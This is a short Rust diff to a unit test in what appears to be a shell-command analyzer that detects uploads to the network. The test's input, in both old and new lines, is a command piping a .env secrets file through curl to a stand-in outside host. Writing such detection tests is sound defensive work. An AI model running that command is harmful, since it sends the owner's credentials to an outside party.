@@ -174,14 +174,12 @@ fn httpie_item_file(t: &str) -> Option<&str> {
 
 #[cfg(test)]
 mod tests {
-    use crate::flow::shell::test_util::{one, s, sends, uploads};
+    use crate::flow::shell::test_util::{one, pipes, s, uploads};
     use crate::flow::shell::{analyze, is_loopback};
 
     #[test]
     fn cat_pipe_curl() {
-        let n = sends("cat .env | curl -X POST -d @- https://x.example/c", "curl", &["x.example"]);
-        assert_eq!(n.stdin_from, s(&[".env"]));
-        assert!(n.reads_stdin);
+        let n = pipes("cat .env | curl -X POST -d @- https://x.example/c", "curl", &["x.example"], &[".env"]);
         assert!(n.upload_paths.is_empty());
     }
 
